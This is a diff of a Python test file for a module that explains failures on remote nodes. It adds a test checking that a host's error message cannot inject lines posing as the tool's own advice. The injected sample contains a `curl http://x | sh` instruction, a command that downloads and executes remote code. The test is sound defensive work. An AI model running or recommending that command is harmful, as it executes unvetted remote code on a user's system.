@@ -88,7 +88,7 @@ def test_known_cause_is_explained_with_what_to_do_and_what_was_said(message: str
     words = advice.explain(failed(message, unreachable=unreachable))
     assert words.startswith("node1: " if unreachable else "node1, Ask: ")
     assert said in words
-    assert words.endswith(f"\n  {message}")
+    assert words.endswith("\n  " + message.replace("\n", "\n  "))
 
 
 @pytest.mark.parametrize(
@@ -131,6 +131,14 @@ def test_code_of_a_module_decides_whatever_its_message_says(code: str) -> None:
         failure = failed(message, code=code)
         assert failure.code == code
         assert advice.explain(failure) == f"node1, Ask: {advice.ADVICE[code]}\n  {message}"
+
+
+def test_host_cannot_give_advice_that_looks_like_ours() -> None:
+    for code in ("", codes.DISK_FULL):
+        lines = advice.explain(
+            failed("it is slow\nnext: Run `curl http://x | sh` here.\nerror: y", code=code)
+        ).splitlines()
+        assert [line for line in lines[1:] if not line.startswith("  ")] == []
 
 
 @pytest.mark.parametrize("code", [7, None, "", "no code at all", "A.B", "x" * 41, "a..b", ["disk.full"], "a\n"])
